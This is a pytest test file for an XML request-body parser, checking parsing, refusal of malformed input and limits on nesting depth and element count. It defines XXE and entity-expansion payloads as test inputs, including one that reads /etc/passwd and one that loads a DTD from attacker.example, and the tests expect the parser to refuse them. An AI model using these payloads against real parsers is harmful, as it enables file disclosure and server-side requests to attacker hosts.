"""XML bodies become mappings, and nothing in them is fetched, expanded or too deep."""

from __future__ import annotations

import contextlib

import pytest
from hypothesis import given
from hypothesis import strategies as st

from smart_api_integrations.core.xml_payload import DEEPEST, MOST_ELEMENTS, parse_xml
from smart_api_integrations.errors import MalformedRequest


@pytest.mark.parametrize(
    ("body", "payload"),
    [
        (b"<a/>", {"a": ""}),
        (b"<a>text</a>", {"a": "text"}),
        (b"<a> <b>1</b> <b>2</b> <b>3</b> <c>4</c> </a>", {"a": {"b": ["1", "2", "3"], "c": "4"}}),
        (b"<a x='1'>text</a>", {"a": {"@x": "1", "#text": "text"}}),
        (b"<a>&lt;b&gt; &#65;<![CDATA[<c>]]></a>", {"a": "<b> A<c>"}),
        (b'<s:a xmlns:s="urn:x"><s:b/></s:a>', {"s:a": {"@xmlns:s": "urn:x", "s:b": ""}}),
        ('<?xml version="1.0" encoding="iso-8859-1"?><a>é</a>'.encode("latin-1"), {"a": "é"}),
        ("<a>é</a>".encode("utf-16"), {"a": "é"}),
        (b"<?target data?><!-- note --><a/>", {"a": ""}),
    ],
)
def test_elements_attributes_and_texts(body, payload):
    assert parse_xml(body) == payload


LAUGHS = b'<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><l>&b;</l>'
OUTSIDE = b'<!DOCTYPE l [<!ENTITY x SYSTEM "file:///etc/passwd">]><l>&x;</l>'
REMOTE = b'<!DOCTYPE l SYSTEM "http://attacker.example/evil.dtd"><l/>'


@pytest.mark.parametrize("body", [LAUGHS, OUTSIDE, REMOTE, b"<!DOCTYPE l><l/>"])
def test_a_document_type_is_refused_with_everything_that_it_could_declare(body):
    with pytest.raises(MalformedRequest, match="document type"):
        parse_xml(body)


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"<a>",
        b"<a></b>",
        b"<a/><b/>",
        b"text",
        b"<a>&undeclared;</a>",
        b"<a>\xff</a>",
        b"<a>\x00</a>",
        b'<?xml version="1.0" encoding="no-such"?><a/>',
        b'<?xml version="1.0" encoding="utf-7"?><a/>',
    ],
)
def test_what_is_not_well_formed_is_malformed(body):
    with pytest.raises(MalformedRequest, match="not well-formed"):
        parse_xml(body)


def test_depth_and_number_of_elements_are_bounded():
    assert parse_xml(b"<a>" * DEEPEST + b"</a>" * DEEPEST)
    for body in (b"<a>" * (DEEPEST + 1), b"<a>" + b"<b/>" * MOST_ELEMENTS + b"</a>"):
        with pytest.raises(MalformedRequest, match=r"deeper than|more than"):
            parse_xml(body)


@given(st.binary() | st.text(alphabet="<>/ab&;![]'=\"").map(str.encode))
def test_no_body_makes_anything_but_a_payload_or_a_refusal(body):
    with contextlib.suppress(MalformedRequest):
        assert isinstance(parse_xml(body), dict)
